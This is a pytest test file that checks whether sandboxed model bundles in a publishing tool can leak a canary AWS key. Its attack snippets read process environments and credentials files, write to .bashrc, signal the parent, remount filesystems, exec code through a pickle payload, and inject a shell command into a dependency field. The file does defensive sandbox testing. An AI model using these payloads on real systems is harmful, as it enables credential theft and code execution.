"""C23: hostile models. No canary leaves the sandbox; inside there is nothing to take.

A publisher (a process of its own, with credentials in its environment and its home, an open file
with a secret in it, listeners and a signal handler) verifies models that try to get at all of it,
from every place where a model's code runs. What a model gets hold of it returns as its
prediction; what it breaks is seen from outside. A last test runs the same models where nothing
confines them, to show that the attacks work.
"""

from __future__ import annotations

import base64
import itertools
import json
import os
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from adroit_publish.gates import sandbox
from tests.support.requirements import require_sandbox
from tests.support.serving_bundles import REPOSITORY, bundle, loader_model

CANARY = "AKIACANARY0123456789"
FULL = os.environ.get("ADROIT_FULL") == "1"
FLOOR = 60 if FULL else 12

# Each attack appends to `loot` what it could read; what it changes is looked for outside.
ATTACKS = {
    "environment": "loot.append(str(dict(os.environ))); os.environ['AWS_SECRET_ACCESS_KEY']",
    "parent_environment": """
for pid in {os.getppid(), *filter(str.isdigit, os.listdir('/proc')), PUBLISHER}:
    try: loot.append(open(f'/proc/{pid}/environ').read())
    except OSError: pass
""",
    "parent_files": """
for pid in {os.getppid(), 1, PUBLISHER}:
    for place in ('root', 'cwd'):
        try: loot.append(open(f'/proc/{pid}/{place}' + HOME + '/.aws/credentials').read())
        except OSError: pass
""",
    "credentials_file": """
for home in (HOME, os.path.expanduser('~'), '/root'):
    try: loot.append(open(home + '/.aws/credentials').read())
    except OSError: pass
""",
    "tcp": "socket.create_connection(('127.0.0.1', TCP_PORT), 2).sendall(b'hello')",
    "udp": "socket.socket(type=socket.SOCK_DGRAM).sendto(b'hi', ('127.0.0.1', UDP_PORT))",
    "abstract_socket": "socket.socket(socket.AF_UNIX).connect(ABSTRACT)",
    "named_socket": "socket.socket(socket.AF_UNIX).connect(HOME + '/agent.sock')",
    "write_bundle": """
for top, _, names in os.walk(ROOT):
    for name in names:
        try:
            os.chmod(os.path.join(top, name), 0o666)
        except OSError: pass
        try:
            with open(os.path.join(top, name), 'a') as stream: stream.write('#')
        except OSError: pass
""",
    "write_home": """
for name in (HOME + '/.bashrc', HOME + '/planted', HOME + '/.aws/credentials'):
    try:
        with open(name, 'a') as stream: stream.write('evil')
    except OSError: pass
""",
    "signals": """
import signal
for pid in {os.getppid(), PUBLISHER}:
    if pid > 1:
        try: os.kill(pid, signal.SIGUSR1)
        except OSError: pass
""",
    "descriptors": """
for fd in range(3, 64):
    try: loot.append(os.pread(fd, 4096, 0).decode(errors='replace'))
    except OSError: pass
""",
    "shared_memory": """
for name in os.listdir('/dev/shm'):
    try: loot.append(open('/dev/shm/' + name).read())
    except OSError: pass
""",
    "remount": """
import subprocess
for path in ('/', ROOT, ROOT + '/model'):
    for wrapper in ('', 'unshare -Urm '):
        subprocess.run(f'{wrapper}mount -o remount,bind,rw {path}', shell=True, timeout=20,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
with open(ROOT + '/model/MLmodel', 'a') as stream: stream.write('#')
""",
    "code_in_source": "import attacker_module; loot.append(attacker_module.taken)",
}
MODEL = """
class Model:
    def predict(self, model_input, params=None):
        {in_predict}
        import canary_attack
        return canary_attack.taken
"""
RUN = "import canary_attack"
VEHICLES = ("import_of_loader", "load", "predict", "reduce", "shadowed_module", "entry_point")


@dataclass
class Outside:
    """What an attack could take or break."""

    home: Path
    tcp_port: int
    udp_port: int
    abstract: str
    shared: Path
    contacts: list[str] = field(default_factory=list)

    def publish(self, layouts: dict[str, Path], kind: str) -> dict[str, Any]:
        """Verifies every layout in one publisher; returns id -> what came of it."""
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "AWS_SECRET_ACCESS_KEY": CANARY,
            "DATABRICKS_TOKEN": CANARY,
        }
        with (self.home / ".aws/credentials").open("rb") as secret:
            os.set_inheritable(secret.fileno(), True)
            done = subprocess.run(
                [sys.executable, "-c", _PUBLISHER, kind, *map(str, layouts.values())],
                cwd=REPOSITORY,
                env=environment,
                capture_output=True,
                check=False,
                pass_fds=[secret.fileno()],
            )
        assert done.returncode == 0, done.stderr.decode()
        results = json.loads(done.stdout)
        return dict(zip(layouts, results, strict=True))

    def state(self) -> dict[str, bytes]:
        """Returns the bytes of every file of the home directory."""
        files = (path for path in sorted(self.home.rglob("*")) if path.is_file())
        return {str(path): path.read_bytes() for path in files}


_PUBLISHER = """
import json, os, signal, sys
from pathlib import Path
from adroit_publish.errors import PublishError
from adroit_publish.gates import report
from adroit_publish.gates.prediction import predict_in_sandbox
report.TIMEOUT_S = 60.0
signals = []
signal.signal(signal.SIGUSR1, lambda number, frame: signals.append(number))
results = []
for name in sys.argv[2:]:
    layout = Path(name)
    attack = layout / "model/code/canary_attack.py"
    text = attack.read_text()
    # Padded, so that the size in bundle.json stays true.
    attack.write_text(text.replace("PUBLISHER_PID", str(os.getpid()).rjust(13)))
    before = len(signals)
    try:
        seen = predict_in_sandbox(layout, allow_plain=True, _kind=sys.argv[1])
        result = {"ok": True, "said": json.dumps(seen.outputs)}
    except PublishError as error:
        result = {"ok": False, "said": str(error)}
    results.append({**result, "signals": len(signals) - before})
print(json.dumps(results))
"""


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Outside]:
    home = tmp_path / "home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws/credentials").write_text(f"[eng]\naws_secret_access_key = {CANARY}\n")
    (home / ".bashrc").write_text("# mine\n")
    unique = uuid.uuid4().hex
    abstract = f"\0adroit-c23-{unique}"
    shared = Path(f"/dev/shm/adroit-c23-{unique}")
    shared.write_text(CANARY)
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    named, hidden = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    tcp.bind(("127.0.0.1", 0))
    udp.bind(("127.0.0.1", 0))
    named.bind(str(home / "agent.sock"))
    hidden.bind(abstract)
    found = Outside(home, tcp.getsockname()[1], udp.getsockname()[1], abstract, shared)
    for name, listener in (("tcp", tcp), ("named_socket", named), ("abstract_socket", hidden)):
        listener.listen(64)
        threading.Thread(target=_accept, args=(name, listener, found), daemon=True).start()
    threading.Thread(target=_receive, args=(udp, found), daemon=True).start()
    yield found
    for listener in (tcp, named, hidden, udp):
        with suppress(OSError):
            listener.shutdown(socket.SHUT_RDWR)  # wakes its thread
        listener.close()
    shared.unlink()


def _accept(name: str, listener: socket.socket, outside: Outside) -> None:
    while True:
        try:
            connection, _ = listener.accept()
        except OSError:
            return
        outside.contacts.append(name)
        connection.close()


def _receive(listener: socket.socket, outside: Outside) -> None:
    while True:
        try:
            listener.recv(100)
        except OSError:
            return
        outside.contacts.append("udp")


def canary_model(vehicle: str, attacks: list[str], outside: Outside, root: Path) -> Path:
    """Writes a bundle whose model runs ``attacks`` from ``vehicle`` and returns its layout."""
    constants = {
        "HOME": str(outside.home),
        "TCP_PORT": outside.tcp_port,
        "UDP_PORT": outside.udp_port,
        "ABSTRACT": outside.abstract,
    }
    code = "import os, socket\ntaken = {}\nPUBLISHER = int('PUBLISHER_PID')\n"
    code += "ROOT = os.path.abspath(__file__ + '/../../..')\n"
    code += "".join(f"{name} = {value!r}\n" for name, value in constants.items())
    for attack in attacks:
        body = "".join(f"    {line}\n" for line in ATTACKS[attack].strip().splitlines())
        code += f"loot = taken[{attack!r}] = ['FIRED']\ntry:\n{body}"
        code += "except Exception as error: loot.append(f'{type(error).__name__}: {error}')\n"
    files = {
        "code/canary_attack.py": code,
        "python_env.yaml": f"python: 3.11.7\nbuild_dependencies: ['x; touch {outside.home}/p']\n",
        "conda.yaml": f"dependencies: [{{pip: ['evil @ file://{outside.home}/planted']}}]\n",
        "requirements.txt": f"--find-links {outside.home}\n-e {outside.home}\n",
    }
    loader = MODEL.format(in_predict=RUN if vehicle == "predict" else "pass")
    load = "pass"
    if vehicle == "import_of_loader":
        loader = f"{RUN}\n{loader}"
    elif vehicle == "load":
        load = RUN
    elif vehicle == "reduce":
        hostile = b"cbuiltins\nexec\n(Vimport canary_attack\ntR."
        load = f"import base64, pickle; pickle.loads(base64.b64decode({_b64(hostile)!r}))"
    elif vehicle == "shadowed_module":
        # A module that the loader asks for, and that its own code path puts before the library's.
        files["code/colorsys.py"] = RUN
        load = "import colorsys"
    elif vehicle == "entry_point":
        metadata = "code/canary-1.dist-info/"
        files[metadata + "METADATA"] = "Metadata-Version: 2.1\nName: canary\nVersion: 1\n"
        files[metadata + "entry_points.txt"] = "[canary.plugins]\nattack = canary_attack\n"
        load = (
            "from importlib.metadata import entry_points\n"
            "    [point.load() for point in entry_points(group='canary.plugins')]"
        )
    loader += f"\ndef _load_pyfunc(path):\n    {load}\n    return Model()\n"
    credentials = f"{outside.home}/.aws/credentials"
    source = {
        "attacker_module.py": "import os\ntaken = str(os.environ)\n"
        f"if os.path.exists({credentials!r}): taken += open({credentials!r}).read()\n"
    }
    return bundle(root, loader_model(loader, files=files), source=source)


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def combinations() -> list[tuple[str, str]]:
    """Returns (vehicle, attack) pairs: every attack and every vehicle, then all of them."""
    diagonal = list(zip(itertools.cycle(VEHICLES), ATTACKS, strict=False))
    everything = list(itertools.product(VEHICLES, ATTACKS))
    return everything if FULL else diagonal


@pytest.mark.parametrize("kind", ["bubblewrap", "namespaces"])
def test_c23_no_canary_leaves_the_sandbox(
    kind: sandbox.Kind, outside: Outside, tmp_path: Path
) -> None:
    require_sandbox(kind)
    # The two kinds share the models between them; each attack meets both in the full run.
    chosen = combinations() if FULL else combinations()[kind == "namespaces" :: 2]
    layouts = {
        f"{vehicle}/{attack}": canary_model(
            vehicle, [attack], outside, tmp_path / f"bundles/{number}"
        )
        for number, (vehicle, attack) in enumerate(chosen)
    }
    before = outside.state()
    files = {name: _files(layout) for name, layout in layouts.items()}

    results = outside.publish(layouts, kind)

    fired = [name for name, result in results.items() if '["FIRED"' in result["said"]]
    violations = [name for name, result in results.items() if CANARY in result["said"]]
    violations += [f"{name}: signal" for name, result in results.items() if result["signals"]]
    violations += [f"contact: {name}" for name in outside.contacts]
    violations += [
        f"{name}: bundle changed"
        for name, layout in layouts.items()
        if _files(layout) != files[name]
    ]
    violations += ["home changed"] if outside.state() != before else []
    print(f"{kind}: injected={len(layouts)} fired={len(fired)} violations={len(violations)}")
    assert violations == []
    assert sorted(fired) == sorted(layouts), results
    assert len(layouts) >= (FLOOR if FULL else FLOOR // 2)


def test_c23_the_same_models_do_harm_where_nothing_confines_them(
    outside: Outside, tmp_path: Path
) -> None:
    harmless = {"environment", "descriptors", "remount"}  # scrubbed, closed, not mounted
    harmful = [name for name in ATTACKS if name not in harmless]
    layout = canary_model("predict", harmful, outside, tmp_path / "bundle")
    home, files = outside.state(), _files(layout)
    result = outside.publish({"all": layout}, "plain")["all"]
    took = {name for name, loot in json.loads(result["said"]).items() if CANARY in str(loot)}
    reading = {"parent_environment", "parent_files", "credentials_file", "shared_memory"}
    assert took == reading | {"code_in_source"}
    assert set(outside.contacts) == {"tcp", "udp", "abstract_socket", "named_socket"}
    assert result["signals"] > 0
    assert outside.state() != home
    assert _files(layout) != files


def _files(layout: Path) -> dict[str, bytes]:
    attack = layout / "model/code/canary_attack.py"  # the publisher writes its pid into it
    files = (path for path in sorted(layout.rglob("*")) if path.is_file() and path != attack)
    return {str(path): path.read_bytes() for path in files}
